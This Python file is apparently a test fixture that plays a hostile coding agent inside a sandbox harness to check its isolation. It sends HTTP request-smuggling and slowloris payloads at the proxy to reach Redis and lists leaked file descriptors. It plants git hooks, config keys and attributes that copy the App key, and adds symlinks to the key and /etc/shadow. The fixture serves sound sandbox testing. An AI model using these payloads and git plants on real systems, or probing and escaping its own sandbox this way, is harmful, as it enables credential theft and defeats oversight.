"""A hostile coding runtime that tries what `attacker.py` and `prober.py` do not: the
descriptors it inherited, the proxy's request handling (pipelined and smuggled requests,
a Host header that disagrees with the URL, oversized heads, its connection slots), and
plants for the worker's own git after the run: hooks, config and attributes in its
checkout's `.git` and tree, symlinks to the App key and /etc/shadow. Each is reported as
`ATTEMPT <name>: blocked (<why>)` or `ATTEMPT <name>: SUCCEEDED (<what>)` on stdout.

Args: KEY_FILE MARKERS ALLOWED_PORT
KEY_FILE: the App key on the host (the sandbox hides it); MARKERS: a folder every plant
copies the key into, as `<plant>`, if it ever runs outside (the test then finds it there);
ALLOWED_PORT: a server on 127.0.0.1 the run may reach (its /echo answers with the request
it got)."""

import os
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from _protocol import emit, read_prompt

key_file, markers, allowed = sys.argv[1], sys.argv[2], int(sys.argv[3])
HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "fsmonitor-watchman",
)


def report(name: str, ok: bool, why: str) -> None:
    print(f"ATTEMPT {name}: {'SUCCEEDED' if ok else 'blocked'} ({why})", flush=True)


def descriptors() -> None:
    """Anything open beyond stdin, stdout and stderr (and what listing them opens)."""
    found = []
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        if fd <= 2:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue  # the listing's own descriptor, closed already
        found.append(f"{fd}={target}")
    report("inherited_descriptors", bool(found), ", ".join(found) or "none")


def proxy_port() -> int:
    return int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1].strip("/"))


def exchange(request: bytes, wait: float = 5.0) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy_port()), 5) as tunnel:
        tunnel.sendall(request)
        tunnel.settimeout(wait)
        got = b""
        try:
            while chunk := tunnel.recv(65536):
                got += chunk
        except OSError:
            pass
    return got


def redis_answered(got: bytes) -> bool:
    """Redis answers an HTTP request line with `-ERR` (or closes at once on `Host:`)."""
    return b"-ERR" in got or b"+PONG" in got or b"redis_version" in got


def smuggling() -> None:
    """Requests that try to reach Redis behind one the proxy allows."""
    allowed_url = f"http://127.0.0.1:{allowed}/echo"
    redis = b"PING\r\nINFO\r\n"
    tries = {
        # A second request pipelined on the allowed connection, to Redis.
        "pipelined_plain": (
            f"GET {allowed_url} HTTP/1.1\r\nHost: x\r\n\r\n"
            "GET http://127.0.0.1:6379/ HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n"
        ).encode()
        + redis,
        # A body the proxy might read as a second head (Content-Length against chunked).
        "cl_te_conflict": (
            f"POST {allowed_url} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            "CONNECT 127.0.0.1:6379 HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n"
        ).encode()
        + redis,
        # The URL names the allowed server, the Host header Redis.
        "host_header_mismatch": (
            f"GET {allowed_url} HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n"
        ).encode(),
        # An origin-form request whose only target is the Host header.
        "origin_form_host": b"GET / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n" + redis,
        # CONNECT with userinfo, with a second authority in a header.
        "connect_userinfo": (
            f"CONNECT 127.0.0.1:{allowed}@127.0.0.1:6379 HTTP/1.1\r\nHost: x\r\n\r\n"
        ).encode()
        + redis,
        "connect_then_connect": (
            f"CONNECT 127.0.0.1:{allowed} HTTP/1.1\r\n\r\nCONNECT 127.0.0.1:6379 HTTP/1.1\r\n\r\n"
        ).encode()
        + redis,
        "bare_lf_head": (
            f"GET {allowed_url} HTTP/1.1\nHost: x\n\nGET http://127.0.0.1:6379/ HTTP/1.1\n\n"
        ).encode()
        + redis,
        "obs_fold_host": (
            f"GET {allowed_url} HTTP/1.1\r\nX: y\r\n Host: 127.0.0.1:6379\r\n\r\n"
        ).encode(),
        "long_head": (f"GET {allowed_url} HTTP/1.1\r\nX: {'a' * 70000}\r\n\r\n").encode(),
    }
    for name, request in tries.items():
        try:
            got = exchange(request)
        except OSError as exc:
            report(name, False, type(exc).__name__)
            continue
        status = got.split(b"\r\n", 1)[0].decode(errors="replace")
        leaked = redis_answered(got)
        echoed_host = b"host: 127.0.0.1:6379" in got.lower()
        report(name, leaked or echoed_host, f"{status}; {len(got)} bytes")


def slots() -> None:
    """Hold every connection slot of the proxy with heads that never end, then ask: the
    run's own proxy turns it away; nothing of the worker waits on it."""
    held = []
    try:
        for _ in range(80):
            sock = socket.create_connection(("127.0.0.1", proxy_port()), 5)
            sock.sendall(b"GET http://127.0.0.1:6379/ HTTP/1.1\r\nX-Slow: ")
            held.append(sock)
        # Ask until the proxy says it is full (it takes the held connections in as its loop
        # gets to them), for at most 30 s: each answer is read whole, so no pause between.
        request = f"GET http://127.0.0.1:{allowed}/echo HTTP/1.1\r\nConnection: close\r\n\r\n"
        deadline = time.monotonic() + 30
        while True:
            got = exchange(request.encode(), 3)
            status = got.split(b"\r\n", 1)[0].decode() or "no answer"
            if " 503 " in status or redis_answered(got) or time.monotonic() > deadline:
                break
        report("slowloris", redis_answered(got), status)
    except OSError as exc:
        report("slowloris", False, type(exc).__name__)
    finally:
        for sock in held:
            sock.close()


def plant(name: str) -> str:
    """A shell command that copies the App key into MARKERS/<name> (if it can read it)."""
    return f"cp {key_file} {markers}/{name} 2>/dev/null; :"


def git_plants() -> None:
    """Hooks, config and attributes the worker's git would run if it read them."""
    hooks = os.path.join(".git", "hooks")
    os.makedirs(hooks, exist_ok=True)
    for hook in HOOKS:
        path = os.path.join(hooks, hook)
        with open(path, "w") as out:
            out.write(f"#!/bin/sh\n{plant('hook-' + hook)}\nexit 0\n")
        os.chmod(path, 0o755)
    driver = os.path.join(".git", "steal.sh")
    with open(driver, "w") as out:
        out.write(f"#!/bin/sh\n{plant('driver-' + '$1')}\nexec cat\n")
    os.chmod(driver, 0o755)
    script = os.path.abspath(driver)
    config = {
        "core.hooksPath": os.path.abspath(hooks),
        "core.fsmonitor": f"{script} fsmonitor",
        "core.sshCommand": f"{script} ssh",
        "core.pager": f"{script} pager",
        "core.editor": f"{script} editor",
        "diff.external": f"{script} external",
        "filter.steal.clean": f"{script} clean",
        "filter.steal.smudge": f"{script} smudge",
        "filter.steal.process": f"{script} process",
        "diff.steal.textconv": f"{script} textconv",
        "diff.steal.command": f"{script} diffcommand",
        "credential.helper": f"!{script} credential",
        "include.path": os.path.abspath(os.path.join(".git", "more.config")),
    }
    for name, value in config.items():
        subprocess.run(["git", "config", name, value], check=True)
    with open(os.path.join(".git", "more.config"), "w") as out:
        out.write(f"[core]\n\tfsmonitor = {script} included\n")
    info = os.path.join(".git", "info")
    os.makedirs(info, exist_ok=True)
    with open(os.path.join(info, "attributes"), "w") as out:
        out.write("* filter=steal diff=steal\n")
    with open(".gitattributes", "w") as out:
        out.write("* filter=steal diff=steal merge=steal\n")
    report("git_plants", False, f"{len(HOOKS)} hooks, {len(config)} config keys, attributes")


def symlinks() -> None:
    """Links the worker may follow when it reads the tree after the run."""
    os.symlink(key_file, "KEY.md")
    os.symlink("/etc/shadow", "shadow.txt")
    os.makedirs("docs", exist_ok=True)
    os.symlink(os.path.dirname(key_file), "docs/host")
    report("symlinks_planted", False, "KEY.md, shadow.txt, docs/host")


read_prompt()
descriptors()
smuggling()
slots()
git_plants()
symlinks()
with open("CHANGE.md", "w") as out:
    out.write("A change with company\n")
emit(type="result", status="done", summary="Done, with company.")
